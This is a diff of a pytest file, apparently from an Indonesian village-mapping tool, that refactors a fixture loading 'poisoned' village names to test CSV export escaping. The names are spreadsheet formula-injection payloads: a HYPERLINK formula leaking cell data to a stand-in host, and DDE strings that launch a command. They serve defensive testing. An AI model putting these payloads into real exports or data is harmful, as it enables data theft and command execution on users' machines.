@@ -19,7 +19,7 @@ from layers.planning import budget
 from layers.printed import MapRequest
 from peta_anak.core.safe_cells import FORMULA_START, csv_cell
 from tests.aggregate_values import load_aggregates
-from tests.boundary_files import villages_frame, write
+from tests.boundary_files import import_villages, villages_frame
 from tests.release_steps import approve
 
 NAMES = ['=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -27,14 +27,20 @@ NAMES = ['=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")', "=cmd|' /C calc'!A
 KECAMATAN = {"61.07.01": "-2+3", "61.07.02": "Dua $\\x^$ Hulu"}  # mathtext would fail on it
 
 
-@pytest.fixture
-def poisoned(run, engine, tmp_path):
+def formula_names(engine, settings):
+    """The four villages named :data:`NAMES` in kecamatan :data:`KECAMATAN`, their 2025 values
+    and a planner (built once: tests/databases.py)."""
     frame = villages_frame()
     frame["nama"] = NAMES
     frame["WADMKC"] = [KECAMATAN[code[:8]] for code in frame["kode"]]
-    assert run("boundaries", "import", write(frame, tmp_path / "desa.geojson")).exit_code == 0
+    import_villages(settings, frame)
     load_aggregates(engine)
     users.add(engine, "perencana", "perencana", "rahasia-yang-panjang")
+
+
+@pytest.fixture
+def poisoned(databases, engine, settings):
+    databases.load(settings, engine, formula_names)
     return engine
 
 
